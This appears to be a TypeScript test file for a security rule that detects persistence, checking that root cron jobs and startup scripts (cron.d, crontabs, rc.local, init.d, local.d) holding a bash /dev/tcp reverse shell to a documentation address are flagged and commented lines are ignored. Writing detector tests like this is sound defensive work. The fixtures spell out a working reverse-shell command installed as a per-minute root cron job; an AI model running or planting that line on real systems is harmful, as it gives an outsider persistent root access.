import { expect } from 'chai';
import { persistenceContent } from '../../../src/findings/rules/persistence-content.ts';
import { seenBy } from '../traces-lab.ts';

describe('rule persistence-content', () => {
  it('finds a job that opens a shell', () => {
    expect(
      seenBy(persistenceContent, {
        '[root]/etc/cron.d/x': '* * * * * root bash -i >& /dev/tcp/198.51.100.9/443 0>&1\n',
      }),
    ).to.deep.equal(['high: it has a connection by the shell itself']);
  });
  it('finds one where other systems have theirs', () => {
    for (const path of ['crontabs/root', 'rc.d/rc.local', 'rc.d/init.d/x', 'local.d/x.start'])
      expect(
        seenBy(persistenceContent, { [`[root]/etc/${path}`]: 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1\n' }),
        path,
      ).to.have.length(1);
  });
  it('leaves jobs of packages and comments alone', () => {
    expect(
      seenBy(persistenceContent, {
        '[root]/etc/cron.d/y':
          '# /dev/tcp/1.2.3.4/5\n5 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n',
      }),
    ).to.deep.equal([]);
  });
});
